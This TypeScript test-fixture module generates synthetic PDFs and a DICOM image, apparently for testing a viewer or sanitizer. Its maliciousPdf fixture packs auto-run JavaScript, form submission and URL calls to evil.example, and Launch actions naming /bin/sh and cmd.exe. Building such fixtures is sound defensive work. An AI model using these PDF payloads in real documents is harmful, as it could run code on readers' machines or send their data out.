import { dicomFile, element } from '../dicom.ts';

interface PdfOptions {
  /** Bytes of no use in each page, as a scan has them of use. */
  readonly padding?: number;
  /** Entries of the catalog, and of the first page; object 5 on are `objects`. */
  readonly catalog?: string;
  readonly page?: string;
  readonly objects?: readonly string[];
}

/** Pages of a branch of the tree in which a PDF has them. */
const BRANCH = 20;

/** A PDF with a line of text on each page. */
export function pdf(pages: number, { padding = 0, catalog = '', page = '', objects = [] }: PdfOptions = {}): Buffer {
  const branches = Math.ceil(pages / BRANCH);
  const branch = 4 + objects.length;
  const first = branch + branches;
  const pageOf = (index: number) => `${first + 2 * index} 0 R`;
  const within = (at: number) =>
    Array.from({ length: Math.min(BRANCH, pages - at * BRANCH) }, (_, i) => at * BRANCH + i);
  const each = Array.from({ length: branches }, (_, at) => within(at));
  const parts = [
    `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
    `<</Type/Pages/Count ${pages}/Kids[${each.map((_, at) => `${branch + at} 0 R`).join(' ')}]>>`,
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
    ...objects,
    ...each.map((kids) => `<</Type/Pages/Parent 2 0 R/Count ${kids.length}/Kids[${kids.map(pageOf).join(' ')}]>>`),
    ...each.flat().flatMap((index) => {
      const text = `BT /F 24 Tf 72 700 Td (Page ${index + 1} of the record) Tj ET\n%${'x'.repeat(padding)}\n`;
      const parent = `/Parent ${branch + Math.floor(index / BRANCH)} 0 R/Contents ${first + 2 * index + 1} 0 R`;
      const own = index === 0 ? page : '';
      return [
        `<</Type/Page/MediaBox[0 0 595 842]/Resources<</Font<</F 3 0 R>>>>${parent}${own}>>`,
        `<</Length ${text.length}>>stream\n${text}endstream`,
      ];
    }),
  ];
  let body = '%PDF-1.7\n';
  const offsets = parts.map((part, index) => {
    const at = body.length;
    body += `${index + 1} 0 obj\n${part}\nendobj\n`;
    return `${String(at).padStart(10, '0')} 00000 n \n`;
  });
  const table = `xref\n0 ${parts.length + 1}\n0000000000 65535 f \n${offsets.join('')}`;
  return Buffer.from(
    `${body}${table}trailer<</Size ${parts.length + 1}/Root 1 0 R>>\nstartxref\n${body.length}\n%%EOF\n`,
    'latin1',
  );
}

/** A PDF of one page, whose entries come last and so count. */
export function hostilePdf(page: string, streams: readonly (readonly [dictionary: string, bytes: Buffer])[]): Buffer {
  const objects = streams.map(
    ([dictionary, bytes]) => `<<${dictionary}/Length ${bytes.length}>>stream\n${bytes.toString('latin1')}\nendstream`,
  );
  return pdf(1, { page, objects });
}

const SCRIPT =
  "app.alert('run');app.launchURL('https://evil.example/js');this.submitForm('https://evil.example/form');";
const everywhere = '/Subtype/Link/Rect[0 0 595 842]/Border[0 0 0]';

/** A PDF that tries whatever a PDF can: scripts, addresses, programs, forms, files beside it. */
export function maliciousPdf(): Buffer {
  const script = `<</S/JavaScript/JS(${SCRIPT.replace(/[()]/g, '\\$&')})>>`;
  return pdf(2, {
    catalog: `/OpenAction ${script}/AA<</WC ${script}>>/Names<</JavaScript<</Names[(run)${script}]>>>>/AcroForm<</Fields[8 0 R]/XFA 9 0 R>>/URI<</Base(https://evil.example/)>>`,
    page: `/AA<</O ${script}>>/Annots[4 0 R 5 0 R 6 0 R 7 0 R 8 0 R]`,
    objects: [
      `<</Type/Annot${everywhere}/A<</S/URI/URI(https://evil.example/link)>>>>`,
      `<</Type/Annot${everywhere}/A<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>>>`,
      `<</Type/Annot${everywhere}/A<</S/GoToR/F(https://evil.example/other.pdf)/D[0/Fit]>>>>`,
      `<</Type/Annot${everywhere}/A<</S/SubmitForm/F(https://evil.example/submit)>>/AA<</E ${script}>>>>`,
      `<</Type/Annot/Subtype/Widget/FT/Btn/T(b)/Rect[0 0 595 842]/A ${script}>>`,
      `<</Length ${XFA.length}>>stream\n${XFA}\nendstream`,
    ],
  });
}

const XFA =
  '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script>app.alert(1)</script></event></subform></template></xdp:xdp>';

/** A grey picture of DICOM: a ramp from 0 to 4,095, window 2,048 wide around its middle. */
export function dicomRamp(columns = 64, rows = 32): Buffer {
  const pixels = Buffer.alloc(columns * rows * 2);
  for (let at = 0; at < columns * rows; at += 1) {
    pixels.writeUInt16LE(Math.floor(((at % columns) * 4_095) / (columns - 1)), 2 * at);
  }
  const window = [0x1050, 0x1051].map((number) => element(0x28, number, 'DS', Buffer.from('2048')));
  return dicomFile({ rows, columns, bits: 16, stored: 12, after: Buffer.concat(window), pixels });
}
